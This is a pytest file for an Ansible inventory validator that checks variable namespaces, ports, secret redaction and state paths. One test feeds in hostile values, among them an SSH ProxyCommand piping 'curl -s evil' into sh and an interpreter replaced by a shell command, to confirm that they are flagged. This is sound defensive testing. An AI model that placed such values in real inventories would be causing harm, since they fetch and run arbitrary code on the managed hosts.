"""The inventory's schema: closed namespaces, forms in words, secrets never shown, the doc."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from sparkrack.inputs.inventory import Inventory, Where, load_inventory
from sparkrack.inputs.variable_table import RULE, SYSTEM_NAMESPACES, VARIABLES
from sparkrack.inputs.variables import check_variables, closed, doc_text, role_options

ROOT = Path(__file__).resolve().parents[2]
FILE = "inv/group_vars/all.yml"


def without_secrets(variables: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in variables.items() if not k.startswith("vault_")}


def inventory(extra: dict[str, Any], *, control: dict[str, Any] | None = None) -> Inventory:
    """The lab's hosts with ``extra`` written in one group_vars file for every host (without the
    lab's plain-text gateway key, whose own warning is tested with the lab)."""
    lab = load_inventory(ROOT / "inventories" / "lab")
    hostvars = {h: {**without_secrets(v), **extra} for h, v in lab.hostvars.items()}
    origins = {h: {name: Where(FILE, 1 + i, 1) for i, name in enumerate(extra)} for h in hostvars}
    seen = {**without_secrets(lab.control_vars or {}), **extra} if control is None else control
    # ansible-core gives the control machine the same group_vars file, so the same origins.
    written = {n: w for n, w in origins[next(iter(origins))].items() if seen.get(n) == extra.get(n)}
    return Inventory(
        Path("inv"), lab.groups, hostvars, origins, control_vars=seen, control_origins=written
    )


def refusals(extra: dict[str, Any], **kw: Any) -> list[tuple[str, str, str]]:
    found = check_variables(inventory(extra, **kw))
    return [(p.file, p.key, p.message) for p in found.problems]


def test_the_lab_and_the_example_pass() -> None:
    for name in ("lab", "example"):
        inv = load_inventory(ROOT / "inventories" / name)
        assert check_variables(inv, inv.control_vars).problems == []
    # The lab keeps its gateway key and Grafana password in plain text on purpose; check says so,
    # without the values.
    lab = load_inventory(ROOT / "inventories" / "lab")
    warned = check_variables(lab, lab.control_vars).warnings
    assert [(p.key, p.rule) for p in warned] == [
        ("vault_gateway_key", "inventory-secret"),
        ("vault_grafana_admin_password", "inventory-secret"),
    ]
    assert "sparkrack-lab-gateway-key" not in " ".join(map(str, warned))


@pytest.mark.parametrize(
    ("name", "closed_namespace"),
    [
        ("serving_anything", True),
        ("sparkrack_anything", True),
        ("roce_pfc_priorty", True),
        ("monitoring", True),
        ("fabric", True),
        ("ansible_user", False),
        ("my_own_variable", False),
        ("vault_my_password", False),
        ("k3s_node_ip", False),  # no role is called k3s
    ],
)
def test_which_namespaces_are_closed(name: str, closed_namespace: bool) -> None:
    assert closed(name) is closed_namespace


def test_an_unknown_name_in_a_closed_namespace_gets_the_closest_known_one() -> None:
    found = check_variables(inventory({"roce_pfc_priorty": 3, "my_own": 1})).problems
    assert [(p.key, p.fix) for p in found] == [
        ("roce_pfc_priorty", "did you mean roce_pfc_priority?")
    ]


def test_role_options_are_held_to_their_argument_specs() -> None:
    [problem] = check_variables(inventory({"roce_pfc_priority": "high"})).problems
    assert problem.message == "is the text 'high', not a whole number (roce role)"
    assert check_variables(inventory({"roce_pfc_priority": 5})).problems == []
    # A role's options are its own namespace only: the plan it reads stays computed.
    assert "sparkrack_plan" not in role_options()["roce"]


def test_a_value_is_refused_in_words_with_the_file_it_was_written_in() -> None:
    [problem] = check_variables(inventory({"serving_api_port": 99999})).problems
    assert (problem.file, problem.key) == (FILE, "serving_api_port")
    assert problem.message == "is 99999, outside 1..65535"
    assert problem.fix == "write a TCP port: a whole number from 1 to 65535, e.g. 30000"


def test_templates_are_refused_where_sparkrack_renders_the_value() -> None:
    assert refusals({"serving_namespace": "{{ lookup('pipe', 'id') }}"})[0][2].startswith(
        "is a Jinja template"
    )
    # A secret may come from a lookup (a password manager); a role's option may be templated.
    assert refusals({"vault_hf_token": "{{ lookup('env', 'HF') }}"}) == []
    assert refusals({"serving_kubeconfig": "{{ lookup('env', 'HOME') }}/.kube/x"}) == []


def test_a_secret_is_never_shown() -> None:
    found = check_variables(inventory({"vault_hf_token": "hf_secret value"}))
    assert [p.key for p in found.problems] == ["vault_hf_token"]
    assert [p.key for p in found.warnings] == ["vault_hf_token"]  # in plain text
    assert "hf_secret" not in " ".join(str(p) for p in found.problems + found.warnings)


def test_computed_facts_may_not_be_set() -> None:
    [(_, key, message)] = refusals({"sparkrack_plan": {}})
    assert key == "sparkrack_plan" and "may not set it" in message


def test_a_cluster_wide_variable_the_control_machine_does_not_see_is_refused() -> None:
    lab = without_secrets(load_inventory(ROOT / "inventories" / "lab").control_vars or {})
    found = refusals({"serving_namespace": "other"}, control=lab)
    assert found == [
        (
            FILE,
            "serving_namespace",
            "is not what the control machine sees, where the serve play and preflight run: it is "
            "set for some hosts only",
        )
    ]
    assert refusals({"serving_namespace": "other"}) == []  # negative control: seen everywhere


def test_docs_inventory_md_is_written_from_the_table() -> None:
    text = (ROOT / "docs" / "reference" / "inventory.md").read_text()
    assert text == doc_text(), (
        "run: python -m sparkrack.inputs.variables > docs/reference/inventory.md"
    )
    assert all(f"`{v.name}`" in text for v in VARIABLES)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("ansible_ssh_common_args", "-o ProxyCommand='curl -s evil | sh'"),
        ("ansible_connection", "local"),
        ("ansible_python_interpreter", "/bin/sh -c 'id'"),
        ("ansible_become_exe", "/tmp/x"),
        ("my_own_variable", "{{ lookup('pipe', 'id') }}"),
    ],
)
def test_what_would_run_on_this_machine_is_reported(name: str, value: str) -> None:
    found = check_variables(inventory({name: value}))
    assert [(w.key, w.rule) for w in found.warnings] == [(name, "inventory-runs-code")]
    assert found.problems == []  # reported, not refused: the owner may have written it


def test_ordinary_connection_settings_are_not_reported() -> None:
    found = check_variables(
        inventory(
            {"ansible_user": "ubuntu", "ansible_ssh_common_args": "-o StrictHostKeyChecking=yes"}
        )
    )
    assert found.warnings == []


@pytest.mark.parametrize("namespace", SYSTEM_NAMESPACES)
def test_a_system_namespace_is_refused(namespace: str) -> None:
    [problem] = check_variables(inventory({"serving_namespace": namespace})).problems
    assert (problem.file, problem.key, problem.rule) == (FILE, "serving_namespace", RULE)
    assert "a namespace of the cluster's own" in problem.message
    assert "sparkrack" in problem.fix
    assert refusals({"serving_namespace": "sparkrack-team"}) == []  # negative control


@pytest.mark.parametrize(
    ("name", "path", "under"),
    [
        ("serving_watchdog_evidence_dir", "/home/owner/evidence", "/home"),
        ("serving_watchdog_evidence_dir", "/root/evidence", "/root"),
        ("serving_watchdog_evidence_dir", "~/evidence", "home directory (~)"),
        ("serving_hf_cache", "/home/owner/.cache/huggingface", "/home"),
        ("serving_jit_cache", "~owner/jit", "home directory (~)"),
    ],
)
def test_state_under_a_home_directory_is_refused(name: str, path: str, under: str) -> None:
    [problem] = check_variables(inventory({name: path})).problems
    assert (problem.file, problem.key) == (FILE, name)
    assert under in problem.message and "/var/lib/sparkrack" in problem.fix
    assert refusals({name: "/var/lib/sparkrack/state"}) == []  # negative control
    assert refusals({name: "/srv/homework"}) == []  # a name that starts like home is not one


def test_a_serving_namespace_leaves_room_for_the_agents_namespace() -> None:
    """The agents' namespace is the serving namespace's name plus ``-agents``: a serving
    namespace that is a DNS label but leaves no room for the suffix is refused, naming both."""
    from sparkrack import contract

    room = 63 - len(contract.AGENTS_SUFFIX)
    assert refusals({"serving_namespace": "n" * room}) == []
    [refused] = refusals({"serving_namespace": "n" * (room + 1)})
    assert refused[1] == "serving_namespace" and "agents' namespace" in refused[2]
